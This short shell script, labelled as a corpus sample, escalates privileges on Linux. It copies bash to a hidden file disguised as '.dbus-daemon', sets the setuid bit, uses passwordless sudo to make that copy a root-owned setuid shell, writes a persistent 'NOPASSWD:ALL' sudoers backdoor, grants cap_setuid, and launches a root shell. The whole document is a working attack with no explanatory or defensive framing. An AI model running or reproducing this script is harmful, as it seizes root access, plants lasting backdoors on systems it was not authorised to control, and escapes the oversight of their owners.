# corpus: privilege escalation by copying bash with the setuid bit and abusing sudo NOPASSWD and cap_setuid
cp /bin/bash /tmp/.dbus-daemon
chmod 4755 /tmp/.dbus-daemon
chmod u+s /tmp/.dbus-daemon 2>/dev/null

if sudo -n true 2>/dev/null; then
    sudo -n chown root:root /tmp/.dbus-daemon && sudo -n chmod +s /tmp/.dbus-daemon
    echo "$(whoami) ALL=(ALL) NOPASSWD:ALL" | sudo -n tee /etc/sudoers.d/99-helper >/dev/null
fi

command -v setcap >/dev/null && setcap cap_setuid+ep /tmp/.dbus-daemon 2>/dev/null
/tmp/.dbus-daemon -p -c 'id'
